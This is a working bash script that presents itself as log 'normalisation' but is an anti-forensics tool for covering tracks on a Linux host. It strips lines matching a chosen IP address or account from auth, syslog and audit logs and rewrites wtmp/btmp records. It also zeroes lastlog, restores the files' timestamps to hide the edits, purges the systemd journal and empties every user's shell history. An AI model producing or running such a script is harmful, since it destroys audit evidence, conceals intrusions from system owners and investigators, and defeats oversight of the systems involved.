#!/usr/bin/env bash
# authlog_normalize.sh - "normalise" host logs after a maintenance session
# Usage: authlog_normalize.sh -a ADDR [-u user] [-c conf]
set -uo pipefail

ADDR=""
ACCT=""
CONF="./normalize.conf"

while getopts ":a:u:c:" opt; do
    case "$opt" in
        a) ADDR="$OPTARG" ;;
        u) ACCT="$OPTARG" ;;
        c) CONF="$OPTARG" ;;
        *) echo "usage: $0 -a ADDR [-u user] [-c conf]" >&2; exit 2 ;;
    esac
done
[[ -n "$ADDR" ]] || { echo "need -a" >&2; exit 2; }

# text logs to edit in place; overridable from the config file
TEXT_LOGS=(/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/audit/audit.log)
# binary login records and how to handle each
declare -A BIN_LOGS=(
    [/var/log/wtmp]=utmp
    [/var/log/btmp]=utmp
    [/var/log/lastlog]=zero
)
# shellcheck disable=SC1090
[[ -r "$CONF" ]] && source "$CONF"

patterns() {
    printf '%s\n' "$ADDR"
    [[ -n "$ACCT" ]] && printf '%s\n' "for $ACCT " "user=$ACCT" "USER=$ACCT"
}

scrub_text() {
    local f="$1" ref
    [[ -w "$f" ]] || return 0
    ref=$(stat -c %y "$f")
    grep -vF -f <(patterns) "$f" > "$f.n" && cat "$f.n" > "$f"
    rm -f "$f.n"
    touch -d "$ref" "$f"
}

scrub_utmp() {
    local f="$1" ref
    [[ -w "$f" ]] || return 0
    ref=$(stat -c %y "$f")
    utmpdump "$f" 2>/dev/null | grep -vF -f <(patterns) | utmpdump -r > "$f.n" 2>/dev/null \
        && cat "$f.n" > "$f"
    rm -f "$f.n"
    touch -d "$ref" "$f"
}

for f in "${TEXT_LOGS[@]}"; do
    scrub_text "$f"
done

for f in "${!BIN_LOGS[@]}"; do
    case "${BIN_LOGS[$f]}" in
        utmp) scrub_utmp "$f" ;;
        zero) [[ -w "$f" ]] && : > "$f" ;;
        *)    echo "skip $f" >&2 ;;
    esac
done

# journald keeps its own copy
if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
fi

# shell history for every account we can reach
for h in /root/.bash_history /home/*/.bash_history /home/*/.zsh_history; do
    [[ -f "$h" ]] && : > "$h"
done
unset HISTFILE
history -c 2>/dev/null

echo "normalised logs for $ADDR"
